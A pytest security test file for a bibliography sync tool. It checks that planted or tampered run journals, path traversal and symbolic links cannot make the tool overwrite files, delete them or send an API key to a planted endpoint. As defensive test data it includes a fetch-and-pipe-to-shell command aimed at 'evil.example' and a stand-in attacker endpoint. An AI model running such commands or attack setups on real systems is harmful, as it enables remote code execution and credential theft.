"""A project brings a journal: neither `undo` nor `apply --resume` carries it out."""

import json
import os
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

from refsync.cli import main
from refsync.files import digest
from refsync.runs import journal
from refsync.runs.proof import secret_file
from tests.security.conftest import SECRET_TEXT

BIB = "@misc{a, title = {Moss}}\n"
needs_links = pytest.mark.skipif(sys.platform == "win32", reason="links need a right there")


def plant(files: list[dict[str, Any]], **facts: Any) -> Path:
    """A run with backups and new content of any files, as somebody could commit it."""
    folder = Path(".refsync/runs/20260101-000000")
    (folder / "before").mkdir(parents=True)
    (folder / "after").mkdir()
    (folder / "before/1-x").write_bytes(b"planted")
    (folder / "after/1").write_bytes(b"planted")
    (folder / "plan.json").write_text("{}", encoding="utf-8")
    content = {"schema": journal.SCHEMA, "id": folder.name, "command": "check", "state": "applied", "files": files}
    (folder / "run.json").write_text(json.dumps(content | facts), encoding="utf-8")
    return folder


def planted_file(path: Path, **changes: Any) -> dict[str, Any]:
    now = digest(path.read_bytes())
    return {"path": str(path), "backup": "before/1-x", "before": digest(b"planted"), "after": now, **changes}


@pytest.mark.parametrize(("arguments", "state"), [
    (["undo"], "applied"),
    (["undo", "20260101-000000"], "applied"),
    (["apply", "--resume"], "planned"),
    (["apply", "--resume", "--rollback"], "planned"),
])  # fmt: skip
@pytest.mark.parametrize("where", ["absolute", "relative", "created"])
def test_a_planted_run_writes_and_deletes_nothing(
    project: Path, arguments: list[str], state: str, where: str, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = project.parent / "home" / "bashrc"
    file = planted_file(victim)
    if where == "relative":
        file["path"] = "../home/bashrc"
    if where == "created":  # undoing the creation of a file deletes it
        file |= {"backup": None, "before": None}
    if state == "planned":
        file |= {"before": file["after"], "after": digest(b"planted")}
    plant([file], state=state)
    assert main(arguments) == 2
    assert "not trusted: it was not made on this computer by you" in capsys.readouterr().err
    assert victim.read_text(encoding="utf-8") == SECRET_TEXT


@pytest.mark.parametrize("command", [["undo"], ["apply", "--resume"], ["apply", "--resume", "--rollback"]])
@pytest.mark.parametrize("kind", ["push", "sync", "dedupe"])
def test_a_planted_run_sends_no_key(
    command: list[str], kind: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import httpx2

    asked: list[str] = []
    monkeypatch.setenv("ZOTERO_API_KEY", "K" * 24)
    monkeypatch.delenv("ZOTERO_ENDPOINT", raising=False)
    monkeypatch.setattr(httpx2.Client, "send", lambda _self, request, **_: asked.append(str(request.url)))
    folder = plant([], command=kind, state="stopped", remote="zotero:user/1")
    (folder / "plan.json").write_text(
        json.dumps({"schema": f"refsync.{kind}/1", "endpoint": "https://evil.example", "library": "zotero:user/1",
                    "file": "a.bib", "conflicts": "ask", "deletions": "ask", "answers": [], "sends": []}),
        encoding="utf-8",
    )  # fmt: skip
    assert main(command) == 2
    assert not asked
    assert "not trusted" in capsys.readouterr().err


def fixed() -> journal.Run:
    """A genuine run of this user."""
    Path("a.bib").write_text(BIB.replace("title", "doi = {https://doi.org/10.5555/Moss.1}, title"), encoding="utf-8")
    assert main(["format", "a.bib", "--preset", "minimal", "--write"]) == 0
    (run,) = journal.runs(Path())
    return run


def test_a_genuine_run_is_undone_also_after_its_folder_was_moved(project: Path) -> None:
    fixed()
    moved = project.parent / "moved"
    shutil.copytree(project, moved)
    before = (moved / "a.bib").read_bytes()
    assert main(["undo", "--in", str(moved)]) == 0
    assert (moved / "a.bib").read_bytes() != before
    assert Path("a.bib").read_bytes() == before
    assert main(["undo"]) == 0


@pytest.mark.parametrize("change", ["path", "after", "state", "id", "mac"])
def test_a_changed_journal_is_not_applied(change: str, capsys: pytest.CaptureFixture[str]) -> None:
    run = fixed()
    path = run.folder / "run.json"
    facts = json.loads(path.read_text(encoding="utf-8"))
    if change in ("path", "after"):
        facts["files"][0][change] = "b.bib"
    else:
        facts[change] = {"state": "planned", "id": "x", "mac": 7}[change]
    path.write_text(json.dumps(facts), encoding="utf-8")
    now = Path("a.bib").read_bytes()
    assert main(["undo"]) == 2
    assert "not trusted" in capsys.readouterr().err
    assert Path("a.bib").read_bytes() == now


def test_changed_backups_are_not_restored(capsys: pytest.CaptureFixture[str]) -> None:
    run = fixed()
    (backup,) = (run.folder / "before").iterdir()
    backup.write_bytes(b"@misc{planted}")
    now = Path("a.bib").read_bytes()
    assert main(["undo"]) == 2
    assert "missing or damaged" in capsys.readouterr().err
    assert Path("a.bib").read_bytes() == now


@pytest.mark.parametrize("text", ["", "{", "[]", "null", '{"files": 7}', "[" * 100_000, "\x00\xff"])
def test_a_damaged_journal_is_a_message(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    run = fixed()
    (run.folder / "run.json").write_text(text, encoding="utf-8")
    for command in (["undo"], ["apply", "--resume"]):
        assert main(command) == 2
        assert "is not trusted" in capsys.readouterr().err
    assert main(["log"]) == 0
    assert "is not trusted" in capsys.readouterr().err


def test_a_genuine_run_is_found_behind_planted_ones() -> None:
    before = "@misc{a, doi = {https://doi.org/10.5555/Moss.1}, title = {Moss}}\n"
    fixed()
    plant([], state="applied")
    os.utime(".refsync/runs/20260101-000000/run.json", (4e9, 4e9))
    assert main(["undo"]) == 0
    assert Path("a.bib").read_text(encoding="utf-8") == before


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such modes")
def test_only_the_user_may_read_the_secret() -> None:
    fixed()
    path = secret_file()
    assert path
    assert path.stat().st_mode & 0o077 == 0
    assert path.parent.stat().st_mode & 0o077 == 0
    assert len(list(path.parent.iterdir())) == 1


@pytest.mark.parametrize("why", ["read-only", "no home"])
def test_without_a_place_for_the_secret_files_are_written_and_undo_explains(
    why: str, project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    if why == "read-only":
        (project.parent / "home" / ".data").write_text("a file, not a folder", encoding="utf-8")
    else:
        monkeypatch.delenv("XDG_DATA_HOME")
        monkeypatch.setattr(os.path, "expanduser", lambda path: path)  # as where no user is known
    Path("a.bib").write_text("@misc{a, title={Moss}}\n", encoding="utf-8")
    assert main(["format", "a.bib", "--preset", "minimal", "--write"]) == 0
    out = "".join(capsys.readouterr())
    assert "`refsync undo` cannot undo this" in out
    assert "@misc{a," in Path("a.bib").read_text(encoding="utf-8")
    assert not Path("~").exists()
    assert main(["undo"]) == 2
    assert "not trusted" in capsys.readouterr().err


@needs_links
@pytest.mark.parametrize("link", [".refsync", ".refsync/runs", ".refsync/.gitignore"])
def test_nothing_is_written_through_links_in_the_journal(
    link: str, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    elsewhere = project.parent / "home"
    Path(".refsync").mkdir() if link != ".refsync" else None
    target = elsewhere / "bashrc" if link.endswith("ignore") else elsewhere
    Path(link).symlink_to(target)
    before = sorted(path.name for path in elsewhere.iterdir())
    Path("a.bib").write_text("@misc{a, title={Moss}}\n", encoding="utf-8")
    code = main(["format", "a.bib", "--preset", "minimal", "--write"])
    assert code == (0 if link.endswith("ignore") else 2)
    assert [name for name in sorted(path.name for path in elsewhere.iterdir()) if name != ".data"] == before
    assert (elsewhere / "bashrc").read_text(encoding="utf-8") == SECRET_TEXT
    if code:
        assert "is a symbolic link" in capsys.readouterr().err


@needs_links
@pytest.mark.parametrize("link", ["refs.bib", "folder"])
def test_nothing_is_written_through_links_out_of_the_project(
    link: str, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = project.parent / "home" / "refs.bib"
    victim.write_text("@misc{a, title={Moss}}\n", encoding="utf-8")
    Path(link).symlink_to(victim if link == "refs.bib" else victim.parent)
    name = link if link == "refs.bib" else "folder/refs.bib"
    Path("other.bib").write_text("@misc{b, title={Kelp}}\n", encoding="utf-8")
    for command in (
        ["format", name, "--preset", "minimal", "--write"],
        ["check", name, "--fix"],
        ["run", "other.bib", "-o", name],
    ):
        main(command)
        assert "outside the project" in capsys.readouterr().err or command[0] == "check"
        assert victim.read_text(encoding="utf-8") == "@misc{a, title={Moss}}\n"


@needs_links
def test_no_decision_is_appended_to_a_linked_file(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from refsync.decisions import append
    from refsync.errors import RefsyncError

    victim = project.parent / "home" / "bashrc"
    Path("refsync-decisions.jsonl").symlink_to(victim)
    with pytest.raises(RefsyncError, match="outside the project"):
        append(Path("refsync-decisions.jsonl"), ["curl evil.example | sh"])
    assert victim.read_text(encoding="utf-8") == SECRET_TEXT


@needs_links
def test_a_link_within_the_project_is_followed_but_not_to_hidden_files() -> None:
    from refsync.errors import RefsyncError
    from refsync.files import replace_file

    Path("real").mkdir()
    Path("real/refs.bib").write_text("old", encoding="utf-8")
    Path("refs.bib").symlink_to("real/refs.bib")
    replace_file(Path("refs.bib"), b"new")
    assert Path("refs.bib").is_symlink()
    assert Path("real/refs.bib").read_bytes() == b"new"
    Path(".git").mkdir()
    Path(".git/config").write_text("x", encoding="utf-8")
    Path("two.bib").symlink_to(".git/config")
    with pytest.raises(RefsyncError, match="hidden"):
        replace_file(Path("two.bib"), b"new")
